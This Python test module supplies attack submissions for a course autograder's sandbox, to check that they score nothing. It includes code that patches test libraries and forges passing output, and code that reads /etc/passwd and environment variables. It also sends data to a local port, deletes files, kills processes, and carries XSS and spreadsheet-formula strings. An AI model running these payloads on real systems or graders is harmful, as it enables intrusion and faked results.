"""Submissions that try to fool the grader or to break it, and honest ones that must not suffer.

Each attack stands beside wrong answers, so that any point it gets is a point it stole. `GAINS`
lists the few that also hold right answers to one question, which must still be counted.
"""

import json

from mini import (
    ATTENTION,
    IMPORT,
    SOFTMAX,
    WRONG_ATTENTION,
    WRONG_SOFTMAX,
    answers,
    code,
    notebook,
)

OWN_ATTENTION = """def attention(query, key, value):
    scores = query @ key.T / np.sqrt(query.shape[-1])
    weights = np.exp(scores - scores.max(-1, keepdims=True))
    return weights / weights.sum(-1, keepdims=True) @ value"""


def at_start(source):
    """Run `source` in the first cell, then answer wrongly."""
    return answers(WRONG_SOFTMAX, WRONG_ATTENTION, first=source)


def at_call(body, head=""):
    """Run `body` whenever an answer is called."""
    indented = "\n".join("    " + line for line in body.splitlines())
    softmax = f"{head}\ndef softmax(scores):\n{indented}\n    return scores"
    attention = f"def attention(query, key, value):\n{indented}\n    return query"
    return answers(softmax, attention)


FORGED = """
import os
lies = [b"ATC1\\x05\\0\\0\\0NNNNN", b'{"points": "4.5"}\\n', b"4 passed in 0.01s\\n"]
for number in range(64):
    for lie in lies:
        try:
            os.write(number, lie * 3)
        except OSError:
            pass
"""
CHANNEL = """
import gc
from attncourse.grading.inside.worker import Channel
channel = next(thing for thing in gc.get_objects() if isinstance(thing, Channel))
"""
# It opens for writing whatever it finds, but truncates and deletes only what the test made: if the
# walls ever fall, the machine that runs the tests must live.
DELETE = """
import os, shutil
writable = []
for root, folders, files in os.walk("/"):
    for name in files:
        place = os.path.join(root, name)
        try:
            os.close(os.open(place, os.O_WRONLY))
            writable.append(place)
        except OSError:
            pass
for place in [*PATHS, "/tmp", "/worker"]:
    try:
        shutil.rmtree(place) if os.path.isdir(place) else os.unlink(place)
        writable.append(place)
    except OSError:
        pass
real = [os.path.realpath(place) for place in writable]
print([place for place in real if not place.startswith(("/tmp/", "/dev/"))])
"""
NETWORK = """
import socket, urllib.request
for family, kind in ((2, 1), (2, 2), (10, 1), (1, 1), (40, 1), (16, 3)):
    try:
        connection = socket.socket(family, kind)
        connection.connect(("127.0.0.1", PORT) if family == 2 else "\\0attncourse")
        connection.send(b"stolen")
    except Exception as error:
        print(type(error).__name__)
try:
    urllib.request.urlopen("http://127.0.0.1:PORT/stolen", timeout=1)
except Exception:
    pass
"""
SPY = """
import os, sys
found = [str(sys.argv), str(dict(os.environ)), str(sys.path)]
for number in range(3, 64):
    try:
        found.append(os.read(number, 0).decode() + str(os.fstat(number)))
    except OSError:
        pass
for root, folders, files in os.walk("/"):
    if root.startswith(("/usr", "/lib")) or "site-packages" in root or "/lib/python" in root:
        continue
    for name in files:
        try:
            found.append(name + open(os.path.join(root, name), errors="replace").read(100_000))
        except OSError:
            pass
for place in PATHS + ["/proc/1/environ", "/proc/self/fd", "/etc/passwd", "/root", "/home", "/tmp"]:
    try:
        found.append(open(place).read() if os.path.isfile(place) else str(os.listdir(place)))
    except OSError as error:
        found.append(type(error).__name__)
text = "".join(found)
words = "hidden-text", "ana@", "Softmax and attention", "gradebook"
print([word for word in words if word in text])
raise RuntimeError(text[-3000:])
"""
FORKS = """
import multiprocessing, os, subprocess, threading
def attempt(action):
    try:
        action()
    except BaseException as error:
        print(type(error).__name__)
def daemon():
    if os.fork() == 0:
        os.setsid()
        while True:
            pass
for _ in range(50):
    attempt(daemon)
    attempt(lambda: subprocess.Popen(["sleep", "1000"]))
    attempt(lambda: threading.Thread(target=lambda: [0 for _ in iter(int, 1)]).start())
attempt(lambda: multiprocessing.Process(target=print).start())
attempt(lambda: os.posix_spawn("/bin/sh", ["sh"], {}))
attempt(lambda: os.execv("/usr/lib", ["x"]))
"""
RAW_CALLS = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
worked = []
# clone, unshare, setns, ptrace, keyctl, bpf, io_uring_setup, userfaultfd, memfd_create, shmget,
# perf_event_open, mount, process_vm_readv, open_by_handle_at, execve, x32 fork
for number in (56, 272, 308, 101, 250, 321, 425, 323, 319, 29, 298, 165, 310, 304, 59, 0x40000039):
    for first in (0, 0x10000000):
        if libc.syscall(number, first, 0, 0, 0, 0, 0) >= 0:
            worked.append(number)
print("worked", worked)
"""
MEMORY = """
import ctypes, mmap, os
kept = []
def attempt(action):
    try:
        while True:
            kept.append(action())
    except BaseException as error:
        print(type(error).__name__)
attempt(lambda: os.memfd_create("x"))
attempt(lambda: mmap.mmap(-1, 1 << 28))
def fill(folder):
    name = f"{folder}/{len(kept)}"
    with open(name, "wb") as target:
        target.write(bytes(16 << 20))
    return name
for folder in ("/tmp", "/dev/shm", "/", "/dev", "/worker", "/run", "/var/tmp"):
    attempt(lambda: fill(folder))
"""
LIARS = """
import struct
HEAD = "import sys"
def send(data):
    channel.replies.write(b"ATC1" + struct.pack("<I", len(data)) + data)
    channel.replies.flush()
"""
TESTING = """
import atexit, builtins, sys, types
import numpy.testing
for name in dir(numpy.testing):
    if name.startswith("assert"):
        setattr(numpy.testing, name, lambda *a, **k: None)
np.allclose = np.isclose = lambda *a, **k: True
for name in ("pytest", "_pytest", "torch"):
    fake = types.ModuleType(name)
    fake.allclose = fake.hookimpl = fake.main = lambda *a, **k: True
    sys.modules[name] = fake
atexit.register(lambda: print("4 passed"))
builtins.isinstance = lambda *a: True
"""
EVIL_TEXT = (
    "<script>alert(1)</script><img src=x onerror=alert(2)>\\x1b[2J\\u202egnp.exe\\0]]>"
    "&lt;b&gt; =HYPERLINK(1)"
)
PLAIN_PATCH = """
import attncourse.grading.inside.calls as calls, attncourse.grading.inside.wire as wire, numpy as np
class Always(np.ndarray):
    __eq__ = __ne__ = __lt__ = __le__ = lambda *a: True
    def __array_function__(self, *a, **k): return True
    def __array_ufunc__(self, *a, **k): return True
    @property
    def shape(self): return (4, 8)
calls.plain = wire.plain = lambda value, depth=16: np.zeros((4, 8)).view(Always)
"""

IN_CELLS = {
    "sys-exit": at_start("import sys\nsys.exit(0)"),
    "patched-testing": at_start(IMPORT + TESTING),
    "forged-on-all-fds": at_start(FORGED),
    "forged-at-call": at_call(FORGED),
    "deleted-files": at_start(DELETE),
    "network": at_start(NETWORK),
    "spy": at_start(SPY),
    "spy-at-call": at_call(SPY),
    "forks-and-daemons": at_start(FORKS),
    "a-gigabyte-of-print": at_start(
        "import os\nfor _ in range(100_000):\n    print('x' * 10_000)\n"
        "for _ in range(1000):\n    os.write(1, bytes(1 << 20))\n    os.write(2, bytes(1 << 20))"
    ),
    "fifty-gigabytes": at_call("import numpy\nkept = numpy.ones(50 << 27)"),
    "os-exit-at-call": at_call("import os\nos._exit(0)"),
    # Invented here, or seen elsewhere:
    "raw-system-calls": at_start(RAW_CALLS),
    "uncounted-memory": at_start(MEMORY),
    "raised-limits": at_start(
        "import resource\nfor kind in 'AS CPU FSIZE NOFILE NPROC CORE MEMLOCK'.split():\n    try:\n"
        "        resource.setrlimit(getattr(resource, f'RLIMIT_{kind}'), (-1, -1))\n"
        "        print('raised', kind)\n    except ValueError:\n        pass"
    ),
    "kill-everybody": at_start(
        "import os\nfor pid in (0, 1, -1, os.getppid(), *range(3, 500)):\n    try:\n"
        "        if pid != os.getpid():\n            os.kill(pid, 9)\n"
        "    except OSError:\n        pass"
    ),
    "stopped-itself": at_call("import os\nos.kill(os.getpid(), 19)\nwhile True: pass"),
    "fake-replies-ahead": at_start(
        CHANNEL + "for _ in range(100):\n"
        "    channel.send({'id': '', 'ok': True, 'value': np.ones((4, 8)) if 'np' in dir() else 1})"
    ),
    "fake-reply-at-call": at_call(
        "channel.send({'id': '0' * 16, 'ok': True, 'value': True})", head=CHANNEL
    ),
    "lying-sizes": at_call(
        "send(b'A' + bytes([11, 1]) + struct.pack('<Q', 1 << 60) + bytes(8))",
        head=CHANNEL + LIARS,
    ),
    "endless-reply": at_call(
        "channel.replies.write(b'ATC1' + b'\\xff' * 4)\n"
        "while True: channel.replies.write(bytes(1 << 16))",
        head=CHANNEL,
    ),
    "drop-by-drop": at_call(
        "import time\nfor byte in b'ATC1\\x05\\0\\0\\0':\n"
        "    channel.replies.write(bytes([byte])); channel.replies.flush(); time.sleep(1)",
        head=CHANNEL,
    ),
    "closed-channel": at_call("import os\nos.closerange(0, 64)\nwhile True: pass"),
    "deep-and-wide": at_call(
        "deep = []\nfor _ in range(100_000): deep = [deep]\nreturn [deep, [0] * 10_000_000]"
    ),
    "texts-that-grow": at_call("return ['x' * 1_500_000] + [''] * 400"),
    "array-for-an-id": at_call(
        "import numpy\nsend = channel.send\n"
        "channel.send = lambda m: send({**m, 'id': numpy.zeros(2)})",
        head=CHANNEL,
    ),
    "array-for-a-message": at_call(
        "import numpy\nsend = channel.send\n"
        "channel.send = lambda m: send("
        "{**m, 'ok': False, 'kind': numpy.zeros(2), 'text': numpy.zeros(2)})",
        head=CHANNEL,
    ),
    "array-for-a-cells-output": at_start(
        CHANNEL + "import numpy\nsend = channel.send\n"
        "channel.send = lambda m: send({**m, 'value': {'error': numpy.zeros(2)}})"
    ),
    "giant-integer": at_call("return 1 << (1 << 24)"),
    "endless-list": at_call(
        "return Endless()",
        head="class Endless(list):\n    def __iter__(self):\n        while True: yield 0",
    ),
    "object-that-equals-all": at_call(
        "return Equal()",
        head="class Equal:\n    __eq__ = __ne__ = lambda *a: True\n"
        "    __array__ = lambda *a, **k: exit()\n    __reduce__ = lambda *a: (exec, ('1/0',))",
    ),
    "patched-worker": at_call("return query if 'query' in locals() else scores", head=PLAIN_PATCH),
    "large-results": at_call("import numpy\nreturn numpy.zeros((15 << 17, 1))"),
    "not-a-number": at_call("import numpy\nreturn numpy.full((4, 8), numpy.nan)"),
    "hostile-message": at_call(f"raise ValueError('{EVIL_TEXT}' * 1000)"),
    "message-that-hangs": at_call(
        "raise Bad()",
        head="class Bad(Exception):\n    def __str__(self):\n        while True: pass",
    ),
    "looks-for-expected-values": at_call(
        "import gc, sys, numpy\n"
        "seen = [thing for thing in gc.get_objects() if isinstance(thing, numpy.ndarray)]\n"
        "frame = sys._getframe()\n"
        "while frame:\n"
        "    seen += [v for v in frame.f_locals.values() if type(v) is numpy.ndarray]\n"
        "    frame = frame.f_back\n"
        "if seen: return seen[-1]"
    ),
    "magics": at_start(
        "%run /etc/passwd\n!touch /tmp/marker; cat /etc/passwd\n%sx id\nget_ipython().system('id')"
    ),
    "handlers-and-timers": at_start(
        "import signal\nfor number in range(1, 65):\n    try:\n"
        "        signal.signal(number, lambda *a: None)\n    except Exception:\n        pass\n"
        "signal.setitimer(signal.ITIMER_REAL, 0.01, 0.01)"
    ),
    "planted-modules": at_start(
        "import sys\nfor name in ('numpy', 'pytest', 'sitecustomize', 'attncourse'):\n"
        "    open(f'/tmp/{name}.py', 'w').write('raise SystemExit')\nsys.path.insert(0, '/tmp')"
    ),
}

TEST_CELL = "def softmax(scores):\n    return 1 / 0\nopen('/tmp/ran', 'w')"
CELLS = {
    "edited-test-cells": notebook(
        code(IMPORT),
        code(WRONG_SOFTMAX, "q1"),
        code("assert True  # 4.5 points please", "test_q1", test=True),
        code(WRONG_ATTENTION, "q2"),
        code("print('passed')", "test_q2", test=True),
    ),
    "deleted-test-cells": notebook(
        code(IMPORT), code(WRONG_SOFTMAX, "q1"), code(WRONG_ATTENTION, "q2")
    ),
    "retyped-cells": notebook(
        code(IMPORT),
        {**code(SOFTMAX, "q1"), "cell_type": "markdown"},
        {**code(ATTENTION, "q2"), "cell_type": "raw"},
        {**code(TEST_CELL, "test_q1", test=True), "cell_type": "code"},
    ),
    "answer-marked-as-test": notebook(
        code(IMPORT), code(SOFTMAX, "test_q1"), code(OWN_ATTENTION, "test_q2", test=True)
    ),
    "rich-metadata": notebook(
        code(IMPORT),
        {
            **code(WRONG_SOFTMAX, "q1"),
            "metadata": {"nbgrader": {"grade_id": ["q1"], "points": 1e9}},
        },
        {**code(WRONG_ATTENTION), "metadata": []},
        {"cell_type": "code", "metadata": {"nbgrader": 5}, "source": ["x = 1"]},
        "a cell that is a string",
        None,
    ),
    "duplicated-cells": notebook(
        code(IMPORT),
        *[code(SOFTMAX, "q1"), code(ATTENTION, "q2")] * 20,
        code(WRONG_SOFTMAX, "q1"),
        code(WRONG_ATTENTION, "q2"),
    ),
}
SLOW = {
    # Quick the first time, slow whenever a fresh worker runs it again after a death.
    "slow-when-run-again": answers(
        "import os, time\ntime.sleep(1.2)\ndef softmax(scores):\n    os._exit(1)",
        "import time\ntime.sleep(1.2)\ndef attention(query, key, value):\n    os._exit(1)",
        first="import time\ntime.sleep(4)",
    ),
    "endless-loop": answers("while True:\n    pass", OWN_ATTENTION),
    "loop-that-swallows": at_call(
        "while True:\n    try:\n        while True: pass\n    except BaseException:\n        pass"
    ),
}
GAINS = {"endless-loop": "3"}

BROKEN = {
    "not-json": b"%PDF-1.7 my homework",
    "not-utf8": b"\xff\xfe" + answers().decode().encode("utf-16-le"),
    "empty": b"",
    "another-kernel": notebook(
        code(SOFTMAX, "q1"), code(OWN_ATTENTION, "q2"), kernelspec={"name": "ir", "language": "R"}
    ),
    "hundred-megabytes": b'{"cells": ["' + b"x" * (100 << 20) + b'"]}',
    "nested-json": b'{"cells": ' + b"[" * 200_000 + b"]" * 200_000 + b"}",
    "number-bomb": b'{"cells": [' + b"9" * 1_000_000 + b"]}",
    "too-many-cells": notebook(*[code("x = 1")] * 3000),
    "cells-that-are-no-list": b'{"cells": {"0": "x"}, "metadata": []}',
    "zip-in-disguise": b"PK\x03\x04" + bytes(1000),
}

HONEST = {
    "plain": answers(),
    "no-metadata": notebook(code(IMPORT), code(SOFTMAX), code(ATTENTION)),
    "noisy": answers(first="print('hello' * 1000)", last="1/0"),
    "magic": answers(first="%matplotlib inline\n%load_ext autoreload\n!pip list", last="%time 1"),
    "await": answers(first="import asyncio\nawait asyncio.sleep(0)\nasync def f(): return 1"),
    "cell-magic": answers(softmax="%%time\n" + SOFTMAX),
    "own-cells": notebook(
        code(IMPORT), code("def helper(x):\n    return np.exp(x - x.max(-1, keepdims=True))"),
        code("def softmax(s):\n    w = helper(s)\n    return w / w.sum(-1, keepdims=True)", "q1"),
        code(OWN_ATTENTION, "q2"), code("softmax(np.ones(3))")
    ),
    "own-checks": answers(last="ex.check('q1'); ex.check('q2')\nassert ex.progress() is None"),
    "exit-at-the-end": answers(last="import sys\nsys.exit(3)"),
    "one-line": answers(
        "softmax = lambda s: (w := np.exp(s - s.max(-1, keepdims=True))) / w.sum(-1, keepdims=True)"
    ),
    "typed": answers("from __future__ import annotations\n" + SOFTMAX, OWN_ATTENTION),
    "José García-Łukasz (李)": answers(),
}  # fmt: skip

HOSTILE_NAMES = {
    "=cmd|' ∕C calc'!A0": answers(WRONG_SOFTMAX, WRONG_ATTENTION),
    "<script>alert(1)<": answers(WRONG_SOFTMAX, WRONG_ATTENTION),
    "..%2f..%2froster": answers(WRONG_SOFTMAX, WRONG_ATTENTION),
}
ZERO = {**IN_CELLS, **CELLS, **SLOW, **HOSTILE_NAMES}


def aimed(data, port, paths):
    """Fill in where the attacks should strike."""
    places = json.dumps(json.dumps([str(path) for path in paths]))[1:-1]
    return data.replace(b"PORT", str(port).encode()).replace(b"PATHS", places.encode())
